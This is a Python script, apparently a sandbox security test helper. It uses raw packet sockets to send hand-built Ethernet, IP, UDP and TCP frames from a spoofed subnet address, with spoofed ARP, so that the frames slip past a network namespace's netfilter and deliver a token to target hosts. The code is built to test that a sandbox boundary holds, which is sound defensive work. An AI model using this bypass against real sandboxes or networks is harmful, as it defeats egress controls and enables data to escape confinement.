"""Hand-built frames past a sandbox's netfilter: the attack the network boundary must stop.

Run as a process with raw sockets inside a sandbox's network namespace (the test enters it as
host root, so the check proves the boundary, not just a missing capability). Packet sockets
never cross the namespace's netfilter: whatever judges the frames must sit outside it.

usage: frame_attack.py udp|tcp IP PORT TOKEN [udp|tcp IP PORT TOKEN ...]

For each target it sends, from a made-up address of its own subnet (so its own kernel does
not answer the replies), a UDP datagram carrying TOKEN, or a TCP SYN, then (on a SYN-ACK) the
ACK and TOKEN as data. One line per target: `PROTO IP:PORT answered|silent`.
"""

import fcntl
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
SIOCGIFHWADDR = 0x8927
SIOCGIFADDR = 0x8915
SIOCGIFNETMASK = 0x891B


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def default_route():
    """(interface, gateway) of the IPv4 default route."""
    with open("/proc/net/route") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return fields[0], socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    sys.exit("no default route")


def ifreq(name, request):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s.fileno(), request, struct.pack("256s", name.encode()[:15]))


def own_mac(name):
    return ifreq(name, SIOCGIFHWADDR)[18:24]


def own_address(name):
    addr = ifreq(name, SIOCGIFADDR)[20:24]
    mask = ifreq(name, SIOCGIFNETMASK)[20:24]
    return addr, mask


def made_up_address(addr, mask, gateway):
    """An unused address of our subnet: not ours, not the gateway's."""
    a = struct.unpack("!I", addr)[0]
    m = struct.unpack("!I", mask)[0]
    g = struct.unpack("!I", socket.inet_aton(gateway))[0]
    hosts = (~m) & 0xFFFFFFFF
    for _ in range(64):
        candidate = (a & m) | random.randint(1, max(1, hosts - 1))
        if candidate not in (a, g):
            return struct.pack("!I", candidate)
    return struct.pack("!I", (a & m) | 1 if (a & m) | 1 not in (a, g) else (a & m) | 2)


def gateway_mac(sock, name, mac, src, gateway):
    """The gateway's MAC, asked with ARP from the made-up address."""
    gw = socket.inet_aton(gateway)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, mac, src, b"\0" * 6, gw)
    frame = b"\xff" * 6 + mac + struct.pack("!H", ETH_P_ARP) + arp
    deadline = time.time() + 3
    while time.time() < deadline:
        sock.send(frame)
        end = time.time() + 0.3
        while time.time() < end:
            sock.settimeout(max(0.01, end - time.time()))
            try:
                data = sock.recv(65535)
            except socket.timeout:
                break
            if len(data) >= 42 and data[12:14] == struct.pack("!H", ETH_P_ARP):
                op, sender_mac, sender_ip = struct.unpack("!H6s4s", data[20:32])
                if op == 2 and sender_ip == gw:
                    return sender_mac
    sys.exit("the gateway %s never answered ARP" % gateway)


def ipv4(src, dst, proto, payload):
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randint(0, 65535), 0x4000, 64,
        proto, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def udp(src, dst, sport, dport, data):
    length = 8 + len(data)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, length)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    csum = checksum(pseudo + header + data) or 0xFFFF
    return struct.pack("!HHHH", sport, dport, length, csum) + data


def tcp(src, dst, sport, dport, seq, ack, flags, data=b""):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(header) + len(data))
    csum = checksum(pseudo + header + data)
    return header[:16] + struct.pack("!H", csum) + header[18:] + data


def attack(sock, eth, src, proto, ip, port, token):
    dst = socket.inet_aton(ip)
    sport = random.randint(20000, 60000)
    if proto == "udp":
        for _ in range(3):
            sock.send(eth + ipv4(src, dst, 17, udp(src, dst, sport, port, token)))
            time.sleep(0.05)
        return "silent"
    seq = random.randint(0, 2**31)
    sock.send(eth + ipv4(src, dst, 6, tcp(src, dst, sport, port, seq, 0, 0x02)))
    deadline = time.time() + 2
    while time.time() < deadline:
        sock.settimeout(max(0.01, deadline - time.time()))
        try:
            data = sock.recv(65535)
        except socket.timeout:
            break
        if len(data) < 54 or data[12:14] != struct.pack("!H", ETH_P_IP):
            continue
        ihl = (data[14] & 0xF) * 4
        if data[23] != 6 or data[26:30] != dst or data[30:34] != src:
            continue
        segment = data[14 + ihl:]
        their_sport, their_dport, their_seq, _ack, _off, flags = struct.unpack(
            "!HHIIBB", segment[:14])
        if their_sport != port or their_dport != sport:
            continue
        if flags & 0x12 == 0x12:
            ack = (their_seq + 1) & 0xFFFFFFFF
            sock.send(eth + ipv4(src, dst, 6, tcp(src, dst, sport, port, seq + 1, ack, 0x10)))
            sock.send(eth + ipv4(src, dst, 6, tcp(src, dst, sport, port, seq + 1, ack, 0x18,
                                                  token)))
            time.sleep(0.2)
            return "answered"
        if flags & 0x04:
            return "silent"
    return "silent"


def main():
    args = sys.argv[1:]
    if not args or len(args) % 4:
        sys.exit(__doc__)
    name, gateway = default_route()
    mac = own_mac(name)
    addr, mask = own_address(name)
    src = made_up_address(addr, mask, gateway)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sock.bind((name, 0))
    gw_mac = gateway_mac(sock, name, mac, src, gateway)
    eth = gw_mac + mac + struct.pack("!H", ETH_P_IP)
    print("# from %s on %s via %s" % (socket.inet_ntoa(src), name, gateway), flush=True)
    for i in range(0, len(args), 4):
        proto, ip, port, token = args[i], args[i + 1], int(args[i + 2]), args[i + 3].encode()
        verdict = attack(sock, eth, src, proto, ip, port, token)
        print("%s %s:%d %s" % (proto, ip, port, verdict), flush=True)


if __name__ == "__main__":
    main()
